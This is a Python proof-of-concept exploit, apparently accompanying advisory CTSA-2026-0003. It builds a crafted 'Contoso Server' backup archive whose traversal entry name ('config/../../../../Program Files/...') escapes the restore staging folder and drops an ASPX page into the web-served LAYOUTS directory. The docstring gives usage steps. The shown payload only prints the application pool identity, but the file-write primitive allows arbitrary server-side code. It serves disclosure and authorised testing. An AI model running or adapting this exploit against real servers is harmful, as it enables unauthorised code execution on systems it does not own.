#!/usr/bin/env python3
"""CTSA-2026-0003 proof of concept: build a Contoso Server backup archive
whose entry names escape the restore staging folder (zip slip).

For authorised testing on lab systems only. The archive drops a harmless
ASPX page that prints the identity of the application pool; it does not
open a shell. Upload it with the backup import page as a Backup Operator,
then request /_layouts/16/ctsa0003-probe.aspx.
"""
import io
import json
import sys
import zipfile

PROBE = b"""<%@ Page Language="C#" %>
<% Response.Write("ctsa-2026-0003 probe: " + System.Security.Principal.WindowsIdentity.GetCurrent().Name); %>
"""

def build(out_path: str) -> None:
    manifest = {
        "format": "ctsbak/3",
        "farm": "00000000-0000-0000-0000-000000000000",
        "items": ["config/farm.json"],
    }
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("manifest.json", json.dumps(manifest))
        z.writestr("config/farm.json", "{}")
        # the restore job joins this name to the staging folder unchecked
        z.writestr(
            "config/../../../../Program Files/Contoso/Server/16/TEMPLATE/LAYOUTS/ctsa0003-probe.aspx",
            PROBE,
        )
    with open(out_path, "wb") as f:
        f.write(buf.getvalue())
    print(f"wrote {out_path}")


if __name__ == "__main__":
    build(sys.argv[1] if len(sys.argv) > 1 else "ctsa-2026-0003-slip.ctsbak")
